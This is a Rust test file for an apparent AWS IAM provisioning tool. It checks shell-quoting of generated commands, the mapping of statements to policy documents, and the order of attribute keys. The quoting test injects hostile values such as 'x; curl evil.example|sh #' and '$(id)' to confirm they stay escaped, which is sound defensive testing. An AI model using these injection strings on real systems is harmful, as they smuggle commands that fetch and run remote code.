//! Objects as attributes, and as commands: no part of them ends as something else there.

use cloudgrant_core::{Object, ObjectId, Ownership, Scope};
use serde_json::json;

use crate::config::AccountId;
use crate::objects::attributes::raw;
use crate::objects::pod_identity_association::association;
use crate::objects::tags::Tags;
use crate::objects::{
    KINDS, attachment, bucket_statement, key_statement, kind, managed_policy, repository_statement, role,
    statement_kinds,
};
use crate::tests::{config, connected};

/// The words of a POSIX shell's line; nothing where something else than words is in it.
fn words(line: &str) -> Option<Vec<String>> {
    let (mut words, mut word, mut chars) = (Vec::new(), None::<String>, line.chars());
    while let Some(c) = chars.next() {
        match c {
            '\'' => {
                let open = word.get_or_insert_default();
                loop {
                    match chars.next()? {
                        '\'' => break,
                        c => open.push(c),
                    }
                }
            }
            '\\' => word.get_or_insert_default().push(chars.next()?),
            ' ' => words.extend(word.take()),
            '\n' | '$' | '`' | '"' | ';' | '&' | '|' | '<' | '>' | '(' | ')' | '*' | '?' | '#' | '~' => {
                return None;
            }
            c => word.get_or_insert_default().push(c),
        }
    }
    words.extend(word);
    Some(words)
}

#[tokio::test]
async fn whatever_is_in_an_object_stays_one_word_of_its_command() {
    let aws = connected("flyte", config("http://127.0.0.1:1")).await;
    for odd in ["x; curl evil.example|sh #", "$(id)", "`id`", "it's", "a b", "a\nb", "*", "\"", "&", "~", "\\"] {
        for id in [
            managed_policy::KIND,
            role::KIND,
            attachment::KIND,
            association::KIND,
            bucket_statement::KIND,
            key_statement::KIND,
        ] {
            let attributes = json!({
                "path": odd, "document": {"a": odd}, "trust": {"a": odd}, "tags": {"key": odd}, "boundary": odd,
                "role": odd, "policy": odd, "bucket": odd, "account": odd, "key": odd, "statement": {"Sid": odd}, "cluster": odd,
                "namespace": odd, "service_account": odd,
            });
            let object = Object {
                id: ObjectId::new(id, odd),
                scope: Scope::Global,
                attributes: attributes.into(),
                references: Vec::new(),
                depends_on: Vec::new(),
                because: Vec::new(),
                ownership: Ownership::Exclusive,
                touches: Vec::new(),
                handoff: None,
            };
            let commands = kind(id).expect("a kind").commands(aws.of_objects(), &object);
            assert!(!commands.is_empty(), "{id:?}");
            for command in commands {
                if command.starts_with("# ") {
                    assert!(!command.contains('\n'), "{command}");
                    continue;
                }
                let words = words(&command).unwrap_or_else(|| panic!("{command}"));
                assert!(words.iter().any(|word| word == odd), "{command}: {words:?}");
            }
        }
    }
}

/// What plans show and marks compare: the keys, in that order.
#[test]
fn a_statement_is_in_the_document_that_its_attributes_name() {
    use crate::resources::kinds::repository::Repository;
    use crate::shared_document::shared::{CustomerKey, OwnedBucket, Shared};

    let account = AccountId::parse("444455556666").expect("an account");
    let statement = json!({ "Sid": "AllowPull", "Effect": "Allow" });
    let repository = Repository { account: account.clone(), region: "us-west-2".to_owned(), name: "team/x".to_owned() };
    let bucket =
        OwnedBucket { account: account.clone(), partition: "aws".to_owned(), name: "acme-training".to_owned() };
    let key = CustomerKey::parse("arn:aws:kms:us-west-2:444455556666:key/1234-ab").expect("a key");
    for (shared, kind, expected) in [
        (
            Shared::Repository(repository),
            repository_statement::KIND,
            json!({ "repository": "arn:aws:ecr:us-west-2:444455556666:repository/team/x", "statement": statement }),
        ),
        (
            Shared::Bucket(bucket),
            bucket_statement::KIND,
            json!({ "bucket": "arn:aws:s3:::acme-training", "account": "444455556666", "statement": statement }),
        ),
        (Shared::Key(key.clone()), key_statement::KIND, json!({ "key": key.arn(), "statement": statement })),
    ] {
        let (id, attributes) = statement_kinds::wanted(&shared, &statement);
        assert_eq!((id.kind, id.name), (kind, format!("{}#AllowPull", shared.arn())));
        assert_eq!(attributes.as_str(), expected.to_string());
        assert_eq!(statement_kinds::document(kind, &attributes), Some(shared));
    }
    // Without its account, nobody knows whose policy it is in.
    let unowned = bucket_statement::attributes("arn:aws:s3:::acme-training", None, &statement);
    assert_eq!(statement_kinds::document(bucket_statement::KIND, &unowned), None);
}

#[test]
fn each_kind_is_found_by_its_id() {
    let ids: std::collections::BTreeSet<_> = KINDS.iter().map(|one| one.id()).collect();
    assert_eq!(ids.len(), KINDS.len());
    assert!(ids.into_iter().all(|id| kind(id).is_some_and(|found| found.id() == id)) && kind("iam-user").is_none());
}

/// A role and a policy are as plans have always shown them.
#[test]
fn attributes_have_their_keys_in_order() {
    let trust = raw(&json!({ "Version": "2012-10-17" }));
    let tags = Tags::from_iter([("a".to_owned(), "b".into())]);
    let role = role::Role { path: "/x/".into(), tags, trust: &trust, boundary: Some("arn".into()) };
    let expected = r#"{"path":"/x/","tags":{"a":"b"},"trust":{"Version":"2012-10-17"},"boundary":"arn"}"#;
    assert_eq!(role.attributes().as_str(), expected);
    let policy = managed_policy::ManagedPolicy::new("/x/", &trust, &std::collections::BTreeMap::new());
    let attributes = policy.attributes();
    assert_eq!(attributes.as_str(), r#"{"path":"/x/","document":{"Version":"2012-10-17"}}"#);
    assert_eq!(managed_policy::document_of(&attributes)["Version"], "2012-10-17");
}
